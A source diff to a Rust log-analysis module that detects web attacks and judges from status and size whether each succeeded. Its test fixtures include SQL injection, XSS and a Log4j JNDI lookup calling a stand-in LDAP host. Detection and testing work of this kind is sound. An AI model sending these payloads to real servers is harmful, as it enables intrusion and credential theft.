@@ -1,13 +1,18 @@
 //! Attacks in requests: injections, traversal, Log4j look-ups, scanners and probing; and what the
 //! server answered.
 //!
-//! **Did it work?** A log shows an answer's status and size, not its text. So: `false` where every
-//! answer refused (4xx, 5xx); `true` where an answer gave something away: a traversal to a
-//! well-known secret file was answered 2xx by a server that says 404 to others, or an injection
-//! was answered 2xx with more than twice and a kilobyte more than any ordinary answer of the same
-//! page; `null` for all else: an attack that was answered 200 like any visit may have failed or
-//! not. Markup and Log4j look-ups work elsewhere than in the answer and are never called
-//! successful.
+//! **Did it work?** A log shows an answer's status and size, not its text, and a page answers 200 to
+//! a value it does not understand as to one that it does. So a 200 after an attack is told as what
+//! it is ("answered 2xx"), and one rule holds for all classes:
+//!
+//! * `false` where a filter stopped every request, and, for attacks whose result is the answer
+//!   (SQL injection, traversal), where every answer refused (4xx, 5xx);
+//! * `true` where such an answer gave something away, which the sentence then says: a traversal to
+//!   a well-known secret file was answered 2xx by a server that says 404 to others, or any of them
+//!   was answered 2xx with more than twice and a kilobyte more than any ordinary answer of the
+//!   same page;
+//! * `null` for all else. Markup works in a reader's browser and a Log4j look-up where the line is
+//!   logged: no status speaks for or against them, neither 200 nor 404.
 
 use std::collections::{BTreeMap, BTreeSet};
 use std::sync::LazyLock;
@@ -563,8 +568,11 @@ impl Watch for Watching {
         let hash = mix(mix(mix_host(source), time as u64), page);
         let server = record.dst.map(host);
         let seen = Request { time, source, server, page, hash, names_secret };
-        if classes.is_empty() {
+        // What a tool asks in all innocence shows what the page ordinarily answers.
+        if classes.iter().all(|(class, _)| *class == Class::Scanner) {
             self.remember_page(page, record);
+        }
+        if classes.is_empty() {
             self.miss(record, path, &seen);
         }
         for (class, example) in classes {
@@ -656,12 +664,14 @@ impl Site<'_> {
         let (peers, peer_count) = peers(servers.map(|server| self.hosts.key(server)).collect());
         let pages: BTreeSet<u64> = hits.iter().map(|hit| hit.page).collect();
         let (one, many) = class.noun();
+        let gift = self.gift(class, hits);
         let mut what = format!(
-            "{} to {}{}{}: ",
+            "{} to {}{}{}{}: ",
             counted(count, one, many),
             counted(pages.len() as u64, "page", "pages"),
             in_secs(first_seen, last_seen),
             answers(hits),
+            gift.map(Gift::sentence).unwrap_or_default(),
         );
         let examples: BTreeSet<&str> = hits.iter().map(|hit| hit.example.as_ref()).collect();
         what.push_str(&Visible(&hits[0].example).to_string());
@@ -671,7 +681,7 @@ impl Site<'_> {
             ports: ports(hits.iter().map(|hit| hit.port).filter(|&port| port > 0).collect()),
             confidence: confidence(class, count),
             basis: if hits.iter().any(|hit| hit.logged) { Basis::Log } else { Basis::Content },
-            succeeded: self.succeeded(class, hits),
+            succeeded: succeeded(class, hits, gift),
             first_seen,
             last_seen,
             count,
@@ -693,27 +703,54 @@ impl Site<'_> {
         detection
     }
 
-    /// See the module.
-    fn succeeded(&self, class: Class, hits: &[Hit]) -> Option<bool> {
-        let gave = |hit: &&Hit| matches!(hit.status, Some(200..=299));
-        let refused = |hit: &Hit| hit.blocked || matches!(hit.status, Some(400..=599));
-        let gave_away = |hit: &Hit| {
-            let larger = match (hit.bytes, self.pages.largest(hit.page)) {
-                (Some(bytes), Some(ordinary)) => {
-                    bytes > ordinary.saturating_mul(LARGER_TIMES).saturating_add(LARGER_BYTES)
-                }
-                _ => false,
-            };
-            let secret = class == Class::Traversal && hit.names_secret && self.has_missing;
-            larger || secret
-        };
-        match class {
-            Class::Scanner => None,
-            Class::Log4Shell => None,
-            _ if hits.iter().all(refused) => Some(false),
-            Class::Sqli | Class::Traversal if hits.iter().filter(gave).any(gave_away) => Some(true),
-            _ => None,
+    /// The first thing that an answer gave away.
+    fn gift(&self, class: Class, hits: &[Hit]) -> Option<Gift> {
+        if !matches!(class, Class::Sqli | Class::Traversal) {
+            return None;
         }
+        let answered = hits.iter().filter(|hit| matches!(hit.status, Some(200..=299)));
+        let larger = |hit: &Hit| {
+            let (bytes, ordinary) = (hit.bytes?, self.pages.largest(hit.page)?);
+            let limit = ordinary.saturating_mul(LARGER_TIMES).saturating_add(LARGER_BYTES);
+            (bytes > limit).then_some(Gift::Larger { bytes, ordinary })
+        };
+        let secret = |hit: &Hit| {
+            let is_secret = class == Class::Traversal && hit.names_secret && self.has_missing;
+            is_secret.then_some(Gift::Secret)
+        };
+        answered.filter_map(|hit| secret(hit).or_else(|| larger(hit))).next()
+    }
+}
+
+/// What an answer gave away.
+#[derive(Clone, Copy)]
+enum Gift {
+    /// More bytes than the page ordinarily has.
+    Larger { bytes: u64, ordinary: u64 },
+    /// A file that is nobody's business.
+    Secret,
+}
+
+impl Gift {
+    fn sentence(self) -> String {
+        match self {
+            Self::Larger { bytes, ordinary } => {
+                format!(", one with {bytes} bytes where the page has {ordinary} at most")
+            }
+            Self::Secret => ", a secret file among them, by a server that says 404".to_owned(),
+        }
+    }
+}
+
+/// See the module.
+fn succeeded(class: Class, hits: &[Hit], gift: Option<Gift>) -> Option<bool> {
+    let refused = |hit: &Hit| hit.blocked || matches!(hit.status, Some(400..=599));
+    match class {
+        Class::Scanner => None,
+        _ if hits.iter().all(|hit| hit.blocked) => Some(false),
+        Class::Xss | Class::Log4Shell => None,
+        Class::Sqli | Class::Traversal if hits.iter().all(refused) => Some(false),
+        Class::Sqli | Class::Traversal => gift.map(|_| true),
     }
 }
 
@@ -830,10 +867,28 @@ mod tests {
              9 s: http 192.0.2.7 GET /item?id=1+union+select+user,pass+from+users-- 200 9600",
             "web.sqli 192.0.2.7 succeeded=Some(true)",
         );
+        // The tool itself showed what the page ordinarily answers.
         check(
-            "9 s: http 192.0.2.7 GET /s?q=%3Cscript%3Ealert(1)%3C/script%3E 200 900",
-            "web.xss 192.0.2.7 succeeded=None count=1",
+            "1 s: http 192.0.2.7 GET /item?id=1 200 1500 sqlmap/1.8
+             9 s: http 192.0.2.7 GET /item?id=1+union+select+user,pass+from+users-- 200 9600",
+            "web.scanner 192.0.2.7 succeeded=None\nweb.sqli 192.0.2.7 succeeded=Some(true)",
         );
+    }
+
+    #[test]
+    fn what_works_elsewhere_is_not_judged_by_the_answer() {
+        for status in [200, 302, 404, 500] {
+            check(
+                &format!(
+                    "9 s: http 192.0.2.7 GET /s?q=%3Cscript%3Ealert(1)%3C/script%3E {status} 9"
+                ),
+                "web.xss 192.0.2.7 succeeded=None count=1",
+            );
+            check(
+                &format!("1 s: http 192.0.2.7 GET /?x=${{jndi:ldap://198.51.100.9/a}} {status} 9"),
+                "web.log4shell 192.0.2.7 succeeded=None count=1",
+            );
+        }
     }
 
     #[test]
